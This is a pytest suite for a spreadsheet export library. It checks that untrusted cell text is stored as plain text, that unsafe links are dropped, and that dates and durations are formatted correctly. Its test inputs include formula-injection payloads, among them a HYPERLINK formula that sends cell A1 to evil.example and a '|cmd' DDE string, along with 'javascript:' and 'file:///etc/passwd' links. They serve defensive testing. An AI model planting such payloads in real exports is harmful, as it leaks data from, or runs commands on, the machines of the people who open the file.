"""Foreign text in cells: whatever it is, it stays text and says the same."""

import io
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell

from reports.archive import workbook_bytes
from reports.cells import CUT_MARK, MAX_CELL_UNITS, CellMaker, inert_text, is_missing, safe_link
from reports.styles import StyleBook

ZONE = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 1, tzinfo=UTC)


def saved(make: Callable[[CellMaker], list[Cell]]) -> bytes:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append(make(CellMaker(sheet, StyleBook(), ZONE)))
    return workbook_bytes(workbook, NOW)


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=1+1",
        "+1-1|cmd",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "#N/A",
        "#REF!",
        "{=1+1}",
        "007",
        "12345678901234567890",
        "1e5",
        "TRUE",
        "2026-01-01",
        "https://example.com/=1",
        "mailto:someone@example.com",
        "<b>&amp;</b>",
        "نص عربي",
        "Çağrı İstanbul ı",
        "👩‍💻",
    ],
)
def test_foreign_text_is_text_with_excels_text_mark(text: str) -> None:
    content = saved(lambda cells: [cells.foreign(text)])
    cell = load_workbook(io.BytesIO(content)).active["A1"]
    assert cell.value == text.strip()
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert cell.hyperlink is None
    assert "<f>" not in sheet_xml(content)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x00b\x07c\x0bd\x1be", "a\ufffdb\ufffdc\ufffdd\ufffde"),
        ("\ud83d lone", "\ufffd lone"),
        ("\ufffe\uffff", "\ufffd\ufffd"),
        ("_x000D_", "_x005F_x000D_"),
        ("__x0041_", "__x005F_x0041_"),
        ("snake_case_x", "snake_case_x"),
        ("a\r\nb\rc\u2028d", "a\nb\nc\nd"),
    ],
)
def test_what_xml_or_excel_would_change_is_written_so_that_it_reads_the_same(text, shown) -> None:
    assert inert_text(text) == shown


def test_one_line_text_has_no_breaks() -> None:
    assert inert_text("  a\r\n\tb \u2029 c ", one_line=True) == "a b c"


@pytest.mark.parametrize("letter", ["a", "ü", "😀"])
def test_long_text_is_cut_where_excel_would_cut_it_silently(letter: str) -> None:
    cut = inert_text(letter * 40_000)
    assert cut.endswith(CUT_MARK)
    assert len(cut.encode("utf-16-le")) // 2 <= MAX_CELL_UNITS
    assert "\ufffd" not in cut
    whole = letter * (MAX_CELL_UNITS // (len(letter.encode("utf-16-le")) // 2))
    assert inert_text(whole) == whole


@settings(max_examples=150, deadline=None)
@given(st.text(st.characters(exclude_categories=[]), max_size=60))
def test_any_text_at_all_can_be_saved_and_is_no_formula(text: str) -> None:
    content = saved(
        lambda cells: [cells.foreign(text), cells.foreign(text, url=text), cells.own(text)]
    )
    root = etree.fromstring(sheet_xml(content).encode())
    assert not root.findall(".//{*}f")
    types = {cell.get("t") for cell in root.iter("{*}c") if len(cell)}
    assert types <= {"inlineStr", "s", "str"}


@pytest.mark.parametrize(
    ("url", "is_kept"),
    [
        ("https://help.example.com/t/1?a=b#c", True),
        ("HTTP://help.example.com", True),
        ("javascript:alert(1)", False),
        ("file:///etc/passwd", False),
        ("\\\\server\\share", False),
        ("//help.example.com", False),
        ("https://", False),
        ("https://[broken", False),
        ("https://a.example/ b", False),
        ("https://a.example/\x00", False),
        ("https://a.example/" + "a" * 2_100, False),
        ("", False),
        (None, False),
    ],
)
def test_only_web_links_that_excel_takes_are_links(url, is_kept) -> None:
    assert (safe_link(url) is not None) == is_kept
    content = saved(lambda cells: [cells.foreign("=1", url=url)])
    cell = load_workbook(io.BytesIO(content)).active["A1"]
    assert (cell.value, cell.data_type) == ("=1", "s")
    assert (cell.hyperlink is not None) == is_kept


def test_instants_show_the_reports_wall_clock() -> None:
    summer, winter = (
        datetime(2026, 10, 25, 0, 30, tzinfo=UTC),
        datetime(2026, 10, 25, 1, 30, tzinfo=UTC),
    )
    content = saved(
        lambda cells: [cells.instant(summer), cells.instant(winter), cells.instant(None)]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    # Both are 02:30 in Berlin: the night the clocks go back.
    assert sheet["A1"].value == sheet["B1"].value == datetime(2026, 10, 25, 2, 30)  # noqa: DTZ001
    assert sheet["A1"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["C1"].value is None
    with pytest.raises(ValueError, match="without a zone"):
        saved(lambda cells: [cells.instant(datetime(2026, 1, 1))])  # noqa: DTZ001


def test_numbers_that_are_none_leave_the_cell_empty() -> None:
    gone = [float("nan"), float("inf"), float("-inf"), None, pd.NaT]
    content = saved(
        lambda cells: [cells.number(v) for v in gone] + [cells.duration(v) for v in gone]
    )
    assert sheet_xml(content).count("<c ") == 2 * len(gone)
    assert "<v>" not in sheet_xml(content)


def test_durations_are_hours_and_minutes_beyond_a_day_and_never_negative() -> None:
    content = saved(lambda cells: [cells.duration(30 * 3_600 + 60), cells.duration(-5)])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A1"].number_format.startswith("[h]:mm")
    assert sheet["A1"].value.total_seconds() == pytest.approx(30 * 3_600 + 60)
    assert "<v>0</v>" in sheet_xml(content) or "<v>0.0</v>" in sheet_xml(content)


@pytest.mark.parametrize(
    ("value", "missing"),
    [(None, True), (float("nan"), True), (pd.NaT, True), ("", False), (0, False)],
)
def test_is_missing(value: object, missing: bool) -> None:
    assert is_missing(value) is missing
